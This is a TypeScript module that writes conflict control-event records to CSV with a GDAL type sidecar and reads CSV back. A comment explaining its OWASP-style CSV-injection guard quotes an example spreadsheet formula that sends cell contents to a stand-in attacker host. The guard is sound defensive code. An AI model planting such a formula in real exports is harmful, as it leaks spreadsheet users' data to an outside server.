// The control events as CSV, RFC 4180: CRLF line ends, a header row, fields quoted when they hold a comma, a
// double quote or a line break (quotes doubled). UTF-8 text; Arabic names pass through untouched.
import type { ControlEvent, Faction, Place, Source } from '../types';

export const CSV_COLUMNS = [
  'id',
  'date',
  'alt_date',
  'place',
  'place_name',
  'place_name_ar',
  'lon',
  'lat',
  'status',
  'factions',
  'faction_names',
  'blocs',
  'confidence',
  'precision',
  'sources',
  'source_outlets',
  'source_urls',
  'quotes',
  'note',
] as const;

/**
 * Each column's type, as GDAL's CSV driver reads a `.csvt` sidecar (and as a spreadsheet user should set it):
 * `lon`/`lat` are CoordX/CoordY, so GDAL makes each row a point in WGS84 longitude and latitude.
 */
export const CSV_TYPES: Record<(typeof CSV_COLUMNS)[number], string> = {
  id: 'String',
  date: 'Date',
  alt_date: 'Date',
  place: 'String',
  place_name: 'String',
  place_name_ar: 'String',
  lon: 'CoordX',
  lat: 'CoordY',
  status: 'String',
  factions: 'String',
  faction_names: 'String',
  blocs: 'String',
  confidence: 'String',
  precision: 'String',
  sources: 'String',
  source_outlets: 'String',
  source_urls: 'String',
  quotes: 'String',
  note: 'String',
};

/** The `.csvt` sidecar: one line of quoted types, in column order (GDAL reads it beside `x.csv` as `x.csvt`). */
export function csvtText(): string {
  return CSV_COLUMNS.map((c) => `"${CSV_TYPES[c]}"`).join(',') + '\r\n';
}

/** The UTF-8 byte order mark, which spreadsheets need to read a CSV's Arabic right; GDAL skips it. */
export const UTF8_BOM = '\uFEFF';

/**
 * A cell that a spreadsheet would run as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage
 * return) gets a leading apostrophe, as OWASP's CSV-injection advice says, so a quote such as
 * `=HYPERLINK("http://evil.example/?"&A2,"source")` shows as text. Plain numbers (`-12.5`, a western longitude)
 * are left as they are: they cannot run.
 */
export function neutraliseFormula(v: string): string {
  if (!/^[=+\-@\t\r]/.test(v)) return v;
  if (/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(v)) return v;
  return `'${v}`;
}

export function csvField(raw: string): string {
  const v = neutraliseFormula(raw);
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

export interface CsvContext {
  places: ReadonlyMap<string, Place>;
  factions: readonly Faction[];
  /** The cited publications, for each row's outlet names and URLs. */
  sources: readonly Source[];
}

/**
 * One row an event. `sources` holds the cited source ids joined by `;`, `source_outlets` and `source_urls`
 * their outlets and links in the same order (an empty URL where a source has none), and `quotes` the matching
 * quotes, one a line in the same order (a quoted field may hold line breaks in RFC 4180).
 */
export function eventsToCSV(events: readonly ControlEvent[], ctx: CsvContext): string {
  const factions = new Map(ctx.factions.map((f) => [f.id, f]));
  const sources = new Map(ctx.sources.map((s) => [s.id, s]));
  const rows: string[][] = [[...CSV_COLUMNS]];
  for (const e of events) {
    const p = ctx.places.get(e.place);
    rows.push([
      e.id,
      e.date,
      e.altDate ?? '',
      e.place,
      p?.name ?? '',
      p?.nameAr ?? '',
      p ? String(p.lon) : '',
      p ? String(p.lat) : '',
      e.status,
      e.factions.join(';'),
      e.factions.map((f) => factions.get(f)?.name ?? f).join(';'),
      [...new Set(e.factions.map((f) => factions.get(f)?.bloc ?? ''))].join(';'),
      e.confidence,
      e.precision,
      e.citations.map((c) => c.source).join(';'),
      e.citations.map((c) => sources.get(c.source)?.outlet ?? '').join(';'),
      e.citations.map((c) => sources.get(c.source)?.url ?? '').join(';'),
      e.citations.map((c) => c.quote.replace(/\r?\n/g, ' ')).join('\n'),
      e.note ?? '',
    ]);
  }
  return rows.map((r) => r.map(csvField).join(',')).join('\r\n') + '\r\n';
}

/** RFC 4180 reader, the inverse of the writer: used to check round trips, and handy for scripts. */
export function parseCSV(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}
